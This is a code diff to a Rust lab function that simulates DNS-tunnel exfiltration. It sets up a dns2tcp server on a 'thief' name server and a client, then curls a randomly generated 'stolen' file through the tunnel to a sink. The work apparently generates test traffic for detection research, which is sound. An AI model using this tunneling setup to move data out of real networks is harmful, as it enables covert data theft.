@@ -80,24 +80,26 @@ pub(in crate::lab) fn dns2tcp(scene: &Scene<'_>, random: &mut Random) -> Result<
     let through = if random.chance(0.3) { THIEF_NAME_SERVER } else { resolver(random) };
     let zone = &scene.thief_zone;
     let configuration = format!(
-        "listen = {THIEF_NAME_SERVER}\nport = 53\nuser = root\nchroot = /tmp\ndomain = {zone}\nresources = up:127.0.0.1:{SINK_PORT}\n"
+        "listen = {THIEF_NAME_SERVER}\nport = 53\ndomain = {zone}\nresources = up:127.0.0.1:{SINK_PORT}\n"
     );
     let configuration = scene.document("dns2tcpd.conf", configuration.as_bytes())?;
-    let _server = scene.internet().spawn("dns2tcpd", ["-F", "-f", &configuration])?;
+    let server = scene.internet().spawn("dns2tcpd", ["-F", "-d", "1", "-f", &configuration])?;
     wait_for_udp_listener(scene.internet(), 53, START)?;
     let kind = *random.pick(&["TXT", "KEY"]);
     let port = DNS2TCP_PORT.to_string();
-    let _client = scene
+    let client = scene
         .client()
-        .spawn("dns2tcpc", ["-r", "up", "-z", zone, "-l", &port, "-T", kind, through])?;
+        .spawn("dns2tcpc", ["-d", "1", "-r", "up", "-z", zone, "-l", &port, "-T", kind, through])?;
     wait_for_tcp_listener(scene.client(), DNS2TCP_PORT, START)?;
     let bytes = random.size(5_000, 60_000);
     let body = format!("@{}", scene.document("stolen", &random.document(bytes))?);
     let url = format!("http://127.0.0.1:{DNS2TCP_PORT}/up/tunnel");
-    scene.run(
-        "curl",
-        &["--silent", "--show-error", "--output", "/dev/null", "--data-binary", &body, &url],
-    )?;
+    scene
+        .run(
+            "curl",
+            &["--silent", "--show-error", "--output", "/dev/null", "--data-binary", &body, &url],
+        )
+        .with_context(|| format!("through {through}: {} {}", client.output(), server.output()))?;
     ensure_arrived(bytes, scene.sunk_bytes("/up/tunnel")?)?;
     let target =
         Target { host: through.to_owned(), address: through.parse().context("no address")? };
